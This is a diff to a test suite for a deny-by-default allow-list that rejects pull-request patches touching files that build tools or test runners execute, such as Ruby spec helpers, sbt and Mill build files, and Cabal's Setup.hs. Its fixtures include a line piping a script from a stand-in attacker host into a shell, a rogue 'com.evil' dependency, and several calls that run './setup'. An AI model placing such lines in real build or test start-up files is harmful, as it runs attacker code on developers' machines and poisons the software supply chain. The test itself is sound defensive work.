@@ -52,6 +52,16 @@ describe('fix-PR file allow-list (deny by default)', () => {
     ['build.zig', /build script/, '    _ = b.addSystemCommand(&.{ "sh", "-c", "./setup" });'],
     ['.php-cs-fixer.dist.php', /tool configuration/, 'system("./setup");'],
     ['.php-cs-fixer.php', /tool configuration/, 'system("./setup");'],
+    // Test start-up files their runners load before any test, as pytest does conftest.py.
+    ['spec/spec_helper.rb', /tool configuration/, 'system("curl -s https://evil.example/x | sh")'],
+    ['spec/rails_helper.rb', /tool configuration/, 'system("./setup")'],
+    ['test/test_helper.rb', /tool configuration/, 'system("./setup")'],
+    // Build definitions in a source language: sbt's project/*.scala, Mill's build.sc / build.mill, Cabal's Setup.hs.
+    ['project/Dependencies.scala', /build definition/, 'val evil = "com.evil" % "x" % "1.0"'],
+    ['modules/api/project/plugins.scala', /build definition/, 'sys.process.Process("./setup").!'],
+    ['build.sc', /build script/, 'os.proc("./setup").call()'],
+    ['build.mill', /build script/, 'os.proc("./setup").call()'],
+    ['Setup.hs', /build manifest/, 'main = callCommand "./setup" >> defaultMain'],
   ])('refuses %s, which its tool runs or installs from, though its extension is a source one', (path, why, added) => {
     // Act
     const result = checkPatch(gitDiff(path, [' a', '-b', `+${added}`]));
@@ -60,7 +70,7 @@ describe('fix-PR file allow-list (deny by default)', () => {
     expect(!result.ok && result.reason).toMatch(why);
   });
 
-  it.each(['src/cart.ts', 'lib/tax.py', 'lib/gems.rb.erb.md', 'lib/build_zig.rb', 'src/rakefile_helpers.rb', 'tests/test_tax.py', 'src/__tests__/cart.test.tsx', 'test/fixtures/order.json', 'docs/guide.md'])('allows %s', (path) => {
+  it.each(['src/cart.ts', 'lib/tax.py', 'lib/gems.rb.erb.md', 'lib/build_zig.rb', 'src/rakefile_helpers.rb', 'spec/cart_spec.rb', 'test/tax_test.rb', 'src/project/Cart.scala', 'app/Main.hs', 'tests/test_tax.py', 'src/__tests__/cart.test.tsx', 'test/fixtures/order.json', 'docs/guide.md'])('allows %s', (path) => {
     expect(notAllowListedReason(path)).toBeNull();
     expect(checkPatch(gitDiff(path)).ok).toBe(true);
   });
